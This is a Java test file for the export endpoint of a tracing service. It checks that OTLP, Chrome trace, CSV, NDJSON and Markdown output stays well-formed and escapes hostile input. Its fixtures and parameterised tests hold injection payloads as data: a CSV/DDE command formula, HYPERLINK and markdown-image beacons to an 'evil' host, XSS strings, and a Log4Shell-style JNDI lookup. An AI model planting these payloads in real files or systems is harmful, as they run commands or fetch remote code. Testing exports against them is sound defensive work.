package io.oriontrail.query;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.google.protobuf.ByteString;
import com.google.protobuf.InvalidProtocolBufferException;
import com.google.protobuf.util.JsonFormat;
import io.opentelemetry.proto.trace.v1.ResourceSpans;
import io.opentelemetry.proto.trace.v1.Span;
import io.opentelemetry.proto.trace.v1.Status.StatusCode;
import io.opentelemetry.proto.trace.v1.TracesData;
import io.oriontrail.event.Status;
import io.oriontrail.event.StepEvent;
import io.oriontrail.store.InMemoryEventStore;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Each form is read back by a reader of that form. */
class ExportCallTest extends ApiFixture {
  private static final String EXPORT = PATH + "/export?format=";
  private static final String EXPORT_BY_PATH = BY_PATH + "/export";

  /** A start, a container with a failed and a repeated member, and a run that is still open. */
  private void storeAnExecution() {
    append(
        StepEvent.started(Events.KEY, StepEvent.EXECUTION, T0).build(),
        StepEvent.started(Events.KEY, "BOX", T0).runId("box").service("boxes").build(),
        StepEvent.started(Events.KEY, "A", T0.plusMillis(10))
            .runId("a1")
            .parentRunId("box")
            .build(),
        StepEvent.ended(Events.KEY, "A", Status.FAILED, T0.plusMillis(30))
            .runId("a1")
            .durationNanos(20_000_123L)
            .errorCode("TIMEOUT")
            .errorMessage("no answer, \"sorry\"\nafter 20 ms")
            .attributes(Map.of("formula", "=HYPERLINK(\"http://evil\")"))
            .host("h1")
            .build(),
        StepEvent.started(Events.KEY, "A", T0.plusMillis(40)).runId("a2").attempt(2).build(),
        StepEvent.ended(Events.KEY, "A", Status.SUCCEEDED, T0.plusMillis(60))
            .runId("a2")
            .attempt(2)
            .service("+cmd|' /C calc'!A0")
            .build(),
        StepEvent.ended(Events.KEY, "BOX", Status.SUCCEEDED, T0.plusMillis(70))
            .runId("box")
            .build(),
        StepEvent.started(Events.KEY, "@B", T0.plusMillis(70)).runId("b").dependsOn("A").build());
  }

  private Gateway.Reply export(String format) {
    Gateway.Reply reply = gateway.get(EXPORT + format);
    contract.check(EXPORT_BY_PATH, reply);
    assertThat(reply.status()).isEqualTo(200);
    assertThat(reply.header("Content-Disposition")).startsWith("attachment; filename=\"acct-1_");
    assertThat(reply.header(ExportCall.TRUNCATED)).isEqualTo("false");
    return reply;
  }

  @Test
  void otlp_readByItsOwnParser_isTheTimeline() throws Exception {
    storeAnExecution();
    JsonNode timeline = gateway.get(PATH).json();

    TracesData traces = otlp(export("otlp").json());

    Map<String, Span> spans = new HashMap<>();
    Set<ByteString> ids = new HashSet<>();
    Map<String, String> services = new HashMap<>();
    for (ResourceSpans resource : traces.getResourceSpansList()) {
      String service = resource.getResource().getAttributes(0).getValue().getStringValue();
      for (Span span : resource.getScopeSpans(0).getSpansList()) {
        assertThat(span.getTraceId().size()).isEqualTo(16);
        assertThat(span.getSpanId().size()).isEqualTo(8);
        assertThat(ids.add(span.getSpanId())).isTrue();
        String name = span.getName() + "/" + attribute(span, "orion.attempt");
        spans.put(name, span);
        services.put(name, service);
      }
    }
    assertThat(spans).hasSize(timeline.get("runs").size() + 1);
    Span root = Objects.requireNonNull(spans.get("EXECUTION/"));
    assertThat(root.getParentSpanId()).isEqualTo(ByteString.EMPTY);
    assertThat(attribute(root, "orion.verdict")).isEqualTo(timeline.get("verdict").asText());
    Span box = Objects.requireNonNull(spans.get("BOX/1"));
    Span failed = Objects.requireNonNull(spans.get("A/1"));
    Span repeated = Objects.requireNonNull(spans.get("A/2"));
    Span open = Objects.requireNonNull(spans.get("@B/1"));
    assertThat(box.getParentSpanId()).isEqualTo(root.getSpanId());
    assertThat(failed.getParentSpanId()).isEqualTo(box.getSpanId());
    assertThat(failed.getEndTimeUnixNano() - failed.getStartTimeUnixNano()).isEqualTo(20_000_123);
    assertThat(failed.getStatus().getCode()).isEqualTo(StatusCode.STATUS_CODE_ERROR);
    assertThat(failed.getStatus().getMessage()).startsWith("no answer");
    assertThat(attribute(failed, "error.type")).isEqualTo("TIMEOUT");
    assertThat(attribute(failed, "orion.attribute.formula")).startsWith("=HYPERLINK");
    assertThat(repeated.getStatus().getCode()).isEqualTo(StatusCode.STATUS_CODE_OK);
    assertThat(open.getLinks(0).getSpanId()).isEqualTo(repeated.getSpanId());
    assertThat(open.getStatus().getCode()).isEqualTo(StatusCode.STATUS_CODE_UNSET);
    assertThat(services.get("BOX/1")).isEqualTo("boxes");
    assertThat(otlp(export("otlp").json())).as("the same trace again").isEqualTo(traces);
  }

  /**
   * OTLP/JSON is protobuf's JSON but for ids, which are hexadecimal instead of base64. Fields that
   * the parser does not know fail it.
   */
  private static TracesData otlp(JsonNode json) throws InvalidProtocolBufferException {
    for (JsonNode parent : json.findParents("spanId")) {
      for (String field : List.of("traceId", "spanId", "parentSpanId")) {
        if (parent.has(field)) {
          byte[] id = HexFormat.of().parseHex(parent.get(field).asText());
          ((ObjectNode) parent).put(field, Base64.getEncoder().encodeToString(id));
        }
      }
    }
    TracesData.Builder traces = TracesData.newBuilder();
    JsonFormat.parser().merge(json.toString(), traces);
    return traces.build();
  }

  private static String attribute(Span span, String key) {
    return span.getAttributesList().stream()
        .filter(attribute -> attribute.getKey().equals(key))
        .map(attribute -> attribute.getValue())
        .map(value -> value.hasIntValue() ? "" + value.getIntValue() : value.getStringValue())
        .findFirst()
        .orElse("");
  }

  @Test
  void chrome_events_haveWhatTheFormatAsksFor() {
    storeAnExecution();

    JsonNode trace = export("chrome").json();

    int slices = 0;
    Map<Integer, List<double[]>> byThread = new HashMap<>();
    Map<Integer, String> arrows = new HashMap<>();
    for (JsonNode event : trace.get("traceEvents")) {
      assertThat(event.get("name").isTextual()).isTrue();
      assertThat(event.get("pid").isInt() && event.get("tid").isInt()).isTrue();
      switch (event.get("ph").asText()) {
        case "M" -> assertThat(event.get("args").get("name").isTextual()).isTrue();
        case "X" -> {
          slices++;
          double start = event.get("ts").asDouble();
          double end = start + event.get("dur").asDouble();
          byThread
              .computeIfAbsent(event.get("tid").asInt(), id -> new ArrayList<>())
              .add(new double[] {start, end});
        }
        case "s", "f" ->
            arrows.merge(event.get("id").asInt(), event.get("ph").asText(), String::concat);
        default -> throw new AssertionError(event);
      }
    }
    assertThat(slices).isEqualTo(4);
    assertThat(arrows.values()).containsExactly("sf");
    for (List<double[]> lane : byThread.values()) {
      lane.sort((a, b) -> Double.compare(a[0], b[0]));
      for (int i = 1; i < lane.size(); i++) {
        assertThat(lane.get(i)[0]).isGreaterThanOrEqualTo(lane.get(i - 1)[1]);
      }
    }
    assertThat(trace.toString()).contains("\"dur\":20000.123");
  }

  @Test
  void csv_namesOfOthers_areNoFormulasAndKeepTheirCells() {
    storeAnExecution();

    List<List<String>> rows = csv(export("csv").text());

    assertThat(rows).hasSize(5).allSatisfy(row -> assertThat(row).hasSize(rows.getFirst().size()));
    List<String> header = rows.getFirst();
    for (List<String> row : rows.subList(1, rows.size())) {
      for (String cell : row) {
        assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@");
      }
    }
    List<String> failed = rows.get(2);
    assertThat(failed.get(header.indexOf("errorMessage")))
        .isEqualTo("no answer, \"sorry\"\nafter 20 ms");
    assertThat(failed.get(header.indexOf("durationNanos"))).isEqualTo("20000123");
    assertThat(rows.get(3).get(header.indexOf("service"))).isEqualTo("'+cmd|' /C calc'!A0");
    assertThat(rows.get(4).get(header.indexOf("step"))).isEqualTo("'@B");
  }

  @ParameterizedTest
  @ValueSource(strings = {"=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "\uFF1D1", "\uFF0D1"})
  void csvCell_thatWouldBeAFormula_isText(String hostile) {
    assertThat(CsvExport.text(hostile)).isEqualTo("'" + hostile);
  }

  /** RFC 4180. */
  private static List<List<String>> csv(String text) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (quoted && c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
        cell.append('"');
        i++;
      } else if (c == '"') {
        quoted = !quoted;
      } else if (!quoted && (c == ',' || c == '\n')) {
        row.add(cell.toString());
        cell.setLength(0);
        if (c == '\n') {
          rows.add(row);
          row = new ArrayList<>();
        }
      } else if (quoted || c != '\r') {
        cell.append(c);
      }
    }
    return rows;
  }

  @Test
  void ndjson_storedElsewhere_isTheSameTimeline() {
    storeAnExecution();
    String exported = export("ndjson").text();
    InMemoryEventStore elsewhere = new InMemoryEventStore(Duration.ofDays(14), clock);

    elsewhere.append(
        exported.lines().map(line -> Vectors.decode(line.getBytes(UTF_8))).toList(),
        T0.plusSeconds(60));

    assertThat(gateway(elsewhere).get(PATH).text()).isEqualTo(gateway.get(PATH).text());
  }

  @Test
  void ndjson_moreThanAnAnswerHolds_saysWhereToGoOn() {
    List<StepEvent> events = new ArrayList<>();
    for (int i = 0; i < 45_000; i++) {
      events.add(
          StepEvent.started(Events.KEY, "STEP_" + i, T0.plusNanos(i)).runId("r" + i).build());
    }
    Gateway many = gateway(new ListReader(events, 7_000));

    Gateway.Reply reply = many.get(EXPORT + "ndjson");
    Gateway.Reply rest = many.get(PATH + "/events?cursor=" + reply.header(EventsCall.NEXT_CURSOR));

    assertThat(reply.status()).as("%.300s %s", reply.text(), many.log()).isEqualTo(200);
    long exported = reply.text().lines().count();
    assertThat(exported).isBetween(5_000L, 44_999L);
    assertThat(reply.header(ExportCall.TRUNCATED)).isEqualTo("true");
    assertThat(rest.json().get("events").get(0).get("step").asText()).isEqualTo("STEP_" + exported);
  }

  @Test
  void markdown_note_saysWhatMattersAndRunsNoMarkup() {
    storeAnExecution();
    append(
        StepEvent.ended(Events.KEY, "<img src=x> [a](http://b) |", Status.FAILED, T0.plusMillis(80))
            .errorMessage("`x`\n# heading")
            .build());

    String note = export("markdown").text();

    assertThat(note)
        .startsWith("# Running: @B since")
        .contains("| A | 1 | FAILED (retried with success) |", "TIMEOUT", "no answer")
        .contains("&lt;img src=x&gt; \\[a\\](http://b) \\|", "\\`x\\` \\# heading")
        .doesNotContain("<img", "HYPERLINK", "\n# heading");
  }

  /** One text in every field that a producer fills; each form is still what its name says. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil\")",
        "-2+3+cmd|' /C calc'!A0",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1)) ![x](http://evil/?c=1)",
        "| a | b |",
        "``` \\` `",
        "\",\"x\":\"y",
        "{\"accountId\":\"other\"}",
        "a,b;c\"d",
        "\u2028> not a quote\u2029",
        "\u202Etxt.exe",
        "$ref ${jndi:ldap://evil} {{7*7}} %s %00",
      })
  void hostileText_inEveryField_leavesEachFormWhatItIs(String hostile) throws Exception {
    storeFilledWith(hostile, "\r\n# heading\r\n" + hostile + "\u0000");

    JsonNode run = gateway.get(PATH).json().get("runs").get(0);
    assertThat(run.get("step").asText()).isEqualTo(hostile);
    assertThat(run.at("/attributes/" + "k").asText()).startsWith("\r\n# heading").contains(hostile);
    assertThat(run.get("error").get("code").asText()).isEqualTo(hostile);
    Span span = otlp(export("otlp").json()).getResourceSpans(0).getScopeSpans(0).getSpans(0);
    assertThat(span.getName()).isIn(hostile, StepEvent.EXECUTION);
    assertThat(export("chrome").json().get("traceEvents").findValuesAsText("name"))
        .anyMatch(name -> name.contains(hostile));
    List<List<String>> rows = csv(export("csv").text());
    assertThat(rows).hasSize(2);
    assertThat(rows.getLast()).hasSameSizeAs(rows.getFirst());
    assertThat(rows.getLast()).noneMatch(cell -> cell.matches("(?s)[=+@\t\r\n-].*"));
    String ndjson = export("ndjson").text();
    assertThat(ndjson.lines()).hasSize(2);
    assertThat(ndjson.lines().map(line -> Vectors.decode(line.getBytes(UTF_8))))
        .allSatisfy(event -> assertThat(event.key()).isEqualTo(Events.KEY))
        .allSatisfy(event -> assertThat(event.step()).isEqualTo(hostile));
    String note = export("markdown").text();
    assertThat(note).doesNotContain("<", "\n# heading", "\u2028", "\u2029", "\u0000");
    assertThat(note.replaceAll("\\\\.", "")).doesNotContain("![", "](");
    assertThat(note.lines().filter(line -> line.startsWith("|")))
        .hasSize(3)
        .allSatisfy(line -> assertThat(line.replaceAll("\\\\.", "").split("\\|", -1)).hasSize(10));
  }

  private void storeFilledWith(String name, String text) {
    append(
        StepEvent.started(Events.KEY, name, T0).runId("r").service(name).host(name).build(),
        StepEvent.ended(Events.KEY, name, Status.FAILED, T0.plusMillis(5))
            .runId("r")
            .service(name)
            .host(name)
            .errorCode(name)
            .errorMessage(text)
            .attributes(Map.of("k", text))
            .build());
  }

  @ParameterizedTest
  @ValueSource(strings = {"otlp", "chrome", "csv", "markdown"})
  void export_anyExecution_isMade(String format) {
    for (int seed = 0; seed < 150; seed++) {
      List<StepEvent> events = new RandomExecutions(seed).anything(25);
      Gateway random = gateway(new ListReader(events, 1_000));

      Gateway.Reply reply = random.get(EXPORT + format);

      assertThat(reply.status()).as("seed %d", seed).isEqualTo(200);
      contract.check(EXPORT_BY_PATH, reply);
    }
  }
}
